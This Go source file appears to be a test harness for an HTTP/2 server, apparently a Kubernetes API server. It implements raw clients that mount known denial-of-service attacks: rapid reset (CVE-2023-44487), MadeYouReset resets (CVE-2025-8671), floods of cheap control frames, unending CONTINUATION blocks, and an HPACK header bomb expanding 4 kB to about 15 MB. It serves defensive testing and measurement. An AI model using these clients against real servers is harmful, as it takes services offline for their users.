// Package attack is clients that wear an HTTP/2 server out, or break its rules: for tests,
// which want the server to end it, and for measurements of what it costs beside others.
package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Conn is a connection of a client that speaks HTTP/2 by hand.
type Conn struct {
	Raw    *net.TCPConn
	TLS    *tls.Conn
	Frames *http2.Framer // writes into Out
	Out    bytes.Buffer  // what Flush writes
	header []string      // names and values in turn, of every request
	block  bytes.Buffer  // what Fields writes
	hpack  *hpack.Encoder
}

// Dial connects and shakes hands, for no longer than patience. header is names and values
// in turn, for every request.
func Dial(address string, config *tls.Config, patience time.Duration, header ...string) (*Conn, error) {
	raw, err := net.DialTimeout("tcp", address, patience)
	if err != nil {
		return nil, err
	}
	c := &Conn{Raw: raw.(*net.TCPConn), header: header}
	// Whoever never reads must not fill the memory of the machine.
	_ = c.Raw.SetReadBuffer(64 << 10)
	c.TLS = tls.Client(raw, config)
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	if err := c.TLS.HandshakeContext(ctx); err != nil {
		c.HangUp()
		return nil, err
	}
	c.Frames = http2.NewFramer(&c.Out, nil)
	c.Frames.AllowIllegalWrites = true
	c.hpack = hpack.NewEncoder(&c.block)
	return c, nil
}

// HangUp closes the connection without a word: not TLS's, which waits for a peer that does
// not read.
func (c *Conn) HangUp() {
	_ = c.Raw.SetLinger(0)
	_ = c.Raw.Close()
}

// Greet writes the preface.
func (c *Conn) Greet(settings ...http2.Setting) {
	c.Out.WriteString(http2.ClientPreface)
	_ = c.Frames.WriteSettings(settings...) // into memory
}

// Flush writes what has gathered, for no longer than patience. An error says that the
// connection has ended, or that nobody reads at the other end.
func (c *Conn) Flush(patience time.Duration) error {
	if err := c.TLS.SetWriteDeadline(time.Now().Add(patience)); err != nil {
		return err
	}
	_, err := c.TLS.Write(c.Out.Bytes())
	c.Out.Reset()
	return err
}

// Fields returns the header block of names and values in turn. Long values stay out of
// the table.
func (c *Conn) Fields(namesAndValues ...string) []byte {
	c.block.Reset()
	name := ""
	for i, s := range namesAndValues {
		if i%2 == 0 {
			name = s
			continue
		}
		_ = c.hpack.WriteField(hpack.HeaderField{Name: name, Value: s, Sensitive: len(s) > 1000}) // into memory
	}
	return c.block.Bytes()
}

// Headers writes a block in frames of the size that every peer takes.
func (c *Conn) Headers(id uint32, endStream bool, block []byte) {
	const frame = 16 << 10
	n := min(len(block), frame)
	_ = c.Frames.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:n], EndStream: endStream, EndHeaders: n == len(block)})
	for block = block[n:]; len(block) > 0; block = block[n:] {
		n = min(len(block), frame)
		_ = c.Frames.WriteContinuation(id, n == len(block), block[:n])
	}
}

// Head returns the header block of a request.
func (c *Conn) Head(method, path string, more ...string) []byte {
	fields := append([]string{":method", method, ":scheme", "https", ":authority", "kubernetes", ":path", path}, c.header...)
	return c.Fields(append(fields, more...)...)
}

// Get writes a GET request.
func (c *Conn) Get(id uint32, path string, more ...string) {
	c.Headers(id, true, c.Head("GET", path, more...))
}

// Post writes the head of a POST request.
func (c *Conn) Post(id uint32, path string) { c.Headers(id, false, c.Head("POST", path)) }

// Stream returns the id of a client's i-th stream, from 0 on.
func Stream(i int) uint32 { return uint32(2*i + 1) }

// Resets are ways to have a request reset at once: by the client (rapid reset,
// CVE-2023-44487), or by the server for an error that the client makes (MadeYouReset,
// CVE-2025-8671). Each is to follow a GET on the stream.
var Resets = []struct {
	Name  string
	Reset func(c *Conn, id uint32)
}{
	{"RST_STREAM", func(c *Conn, id uint32) { _ = c.Frames.WriteRSTStream(id, http2.ErrCodeCancel) }},
	{"WINDOW_UPDATE of 0", func(c *Conn, id uint32) { _ = c.Frames.WriteWindowUpdate(id, 0) }},
	{"WINDOW_UPDATE beyond the limit", func(c *Conn, id uint32) { _ = c.Frames.WriteWindowUpdate(id, 1<<31-1) }},
	{"DATA on a half-closed stream", func(c *Conn, id uint32) { _ = c.Frames.WriteData(id, false, []byte("late")) }},
	{"HEADERS on a half-closed stream", func(c *Conn, id uint32) { c.Headers(id, true, c.Fields("x-late", "yes")) }},
}

// Floods are frames that cost the client next to nothing. Stream 1 is to be open, with a
// body to come.
var Floods = []struct {
	Name  string
	Write func(c *Conn)
}{
	{"SETTINGS", func(c *Conn) { _ = c.Frames.WriteSettings() }},
	{"PING", func(c *Conn) { _ = c.Frames.WritePing(false, [8]byte{}) }},
	{"empty DATA", func(c *Conn) { _ = c.Frames.WriteData(1, false, nil) }},
	{"PRIORITY", func(c *Conn) { _ = c.Frames.WritePriority(1, http2.PriorityParam{Weight: 1}) }},
	{"WINDOW_UPDATE", func(c *Conn) { _ = c.Frames.WriteWindowUpdate(0, 1) }},
	{"WINDOW_UPDATE of a stream", func(c *Conn) { _ = c.Frames.WriteWindowUpdate(1, 1) }},
	{"unknown", func(c *Conn) { _ = c.Frames.WriteRawFrame(0x42, 0, 0, []byte("whatever")) }},
}

// Continuations are fragments of a header block that does not end.
var Continuations = []struct {
	Name  string
	value string
}{{"of 4 kB", strings.Repeat("a", 4000)}, {"empty", ""}}

// BeginContinuations begins a header block.
func (c *Conn) BeginContinuations(path string) {
	_ = c.Frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, EndStream: true, BlockFragment: c.Head("GET", path)})
}

// Continue writes a fragment, the i-th of Continuations.
func (c *Conn) Continue(i int) {
	var fragment []byte
	if value := Continuations[i].value; value != "" {
		fragment = c.Fields("x-more", value)
	}
	_ = c.Frames.WriteContinuation(1, false, fragment)
}

// Bomb returns a header block that refers to a field in the table again and again: what
// takes 4 kB stands for 15 MB.
func (c *Conn) Bomb(path string) []byte {
	c.Head("GET", path)
	for range 3900 {
		_ = c.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 4000)})
	}
	return c.block.Bytes()
}
